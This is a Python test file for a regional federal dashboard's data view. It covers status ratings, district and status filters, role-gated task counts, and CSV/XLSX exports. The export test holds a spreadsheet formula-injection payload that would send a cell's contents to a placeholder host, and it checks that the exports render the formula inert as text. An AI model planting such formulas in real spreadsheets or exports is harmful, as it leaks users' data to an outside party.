"""The federal view's data: regions × directions by the one status rule, filters, task counts
only for the federal roles, the quarter's data by region, and exports no spreadsheet runs."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from builders import REPORTED
from tsifra.accounts.users import Account
from tsifra.dashboard.federal import federal_view, may_see_federal, table_csv, table_xlsx
from tsifra.dashboard.status import level
from tsifra.kernel.problems import ValidationFailed
from tsifra.ratings.published import rating

TODAY = date(2099, 6, 20)
ANALYST = Account(0, "fed", "Аналитик", "analyst", None)
OPERATOR = Account(0, "op", "Оператор", "operator", "RU-TA")


@pytest.fixture
def reported(database_copy) -> Engine:
    return database_copy(REPORTED)


def test_every_region_by_direction_with_its_status(reported: Engine) -> None:
    view = federal_view(reported, ANALYST, today=TODAY)
    table = rating(reported).table.set_index("unit")
    assert view.period == "2025Q4" and len(view.rows) == len(table) == 83
    assert [code for code, _, _ in view.sectors] == list(rating(reported).sectors)
    ta = next(r for r in view.rows if r.unit == "RU-TA")
    for (score, lv), (code, _, _) in zip(ta.cells, view.sectors, strict=True):
        assert score == pytest.approx(table.loc["RU-TA", code]) and lv == level(score, 100.0)
    assert ta.tasks.total == 3 and ta.tasks.overdue == 1 and ta.tasks.done_on_time == 0
    moscow = next(r for r in view.rows if r.unit == "RU-MOW")
    assert moscow.tasks.total == 0
    # the quarter being collected in June 2099 is 2099Q1, past its due date, with nothing sent
    assert ta.data.period == "2099Q1" and len(ta.data.late) == len(ta.data.expected) == 24
    assert view.late_regions == 83
    early = federal_view(reported, ANALYST, today=date(2026, 1, 5))  # before 2025Q4's due date
    ta_early = next(r for r in early.rows if r.unit == "RU-TA")
    assert ta_early.data.period == "2025Q4" and ta_early.data.complete
    gaps = [r for r in early.rows if r.data.missing]  # the synthetic panel leaves some values out
    assert gaps and early.late_regions == 0 and all(r.data.late == () for r in early.rows)
    assert [r.rank for r in view.rows][:3] == [1, 2, 3]


def test_filters_by_district_and_status(reported: Engine) -> None:
    volga = federal_view(reported, ANALYST, district="volga", today=TODAY)
    assert volga.rows and {r.district for r in volga.rows} == {"volga"}
    everyone = federal_view(reported, ANALYST, today=TODAY)
    for status in ("red", "amber", "green"):
        kept = federal_view(reported, ANALYST, status=status, today=TODAY)
        assert all(r.level == status for r in kept.rows)
        assert len(kept.rows) == sum(r.level == status for r in everyone.rows)
    with pytest.raises(ValidationFailed) as failed:
        federal_view(reported, ANALYST, status="purple", today=TODAY)
    assert failed.value.problems[0].path == "status"


def test_tasks_are_counted_only_for_federal_roles(reported: Engine) -> None:
    assert may_see_federal(ANALYST) and not may_see_federal(OPERATOR)
    assert not may_see_federal(None)
    for reader in (OPERATOR, None):
        view = federal_view(reported, reader, today=TODAY)
        assert not view.with_tasks and all(r.tasks is None for r in view.rows)


def test_exports_keep_text_as_text(tmp_path) -> None:
    rows = [["Регион", "Индекс"], ['=HYPERLINK("http://x.example/?"&A1,"x")', 81.5], ["-", None]]
    book = load_workbook(io.BytesIO(table_xlsx(rows, "2025Q4")))
    sheet = book.active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == rows[1][0]
    assert sheet["B2"].value == 81.5 and sheet.max_row == 3
    text = table_csv(rows).decode("utf-8")
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert read[1] == ["'" + rows[1][0], "81.5"] and read[2][0] == "'-"
